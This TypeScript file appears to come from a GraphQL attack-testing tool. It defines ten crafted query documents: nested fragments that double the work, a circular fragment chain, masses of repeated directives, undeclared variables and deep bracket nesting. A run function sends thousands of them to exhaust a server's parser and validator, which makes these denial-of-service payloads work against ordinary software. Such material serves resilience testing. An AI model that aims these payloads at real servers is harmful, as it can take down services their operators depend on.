import type { Attack } from '../../attack.ts';

/** Documents of a few kilobytes that make parsers, validators and cost analyses work hard. */
const documents: readonly string[] = [
  // Every pair of fields with one name has to be compared.
  `{ ${'customer(id: "x") { name } '.repeat(300)} }`,
  `{ ${Array.from({ length: 60 }, () => '...F').join(' ')} } fragment F on Query { ${'a: __typename '.repeat(400)} }`,
  // Fragments within fragments double the work with each step.
  `{ ...F0 } ${Array.from({ length: 24 }, (_, n) => `fragment F${n} on Query { ...F${n + 1} ...F${n + 1} }`).join(' ')} fragment F24 on Query { __typename }`,
  // A circle.
  `{ ...A } ${Array.from({ length: 80 }, (_, n) => `fragment ${n === 0 ? 'A' : `A${n}`} on Query { ...A${(n + 1) % 80 || ''} }`).join(' ')}`,
  // Many variables that nobody has declared, many directives, many errors.
  `{ ${Array.from({ length: 300 }, (_, n) => `a${n}: order(id: $v${n}) { id }`).join(' ')} }`,
  `{ __typename ${'@skip(if: false) '.repeat(500)} }`,
  `{ ${Array.from({ length: 600 }, (_, n) => `nonsens${n}`).join(' ')} }`,
  `${'{a'.repeat(1_900)}`,
  `query (${Array.from({ length: 300 }, (_, n) => `$v${n}: [[[[Int]]]]`).join(' ')}) { __typename }`,
  `{ order(id: ${'['.repeat(1_000)}${']'.repeat(1_000)}) { id } }`,
];

export const hardDocuments: Attack = {
  name: 'hard-documents',
  description: 'sends documents of up to 8 kB that are hard to validate',
  run: (attacker) =>
    attacker.repeat(4, 4_000, (nth) => attacker.query(`# ${nth}\n${documents[nth % documents.length]}`)).then(() => {}),
};
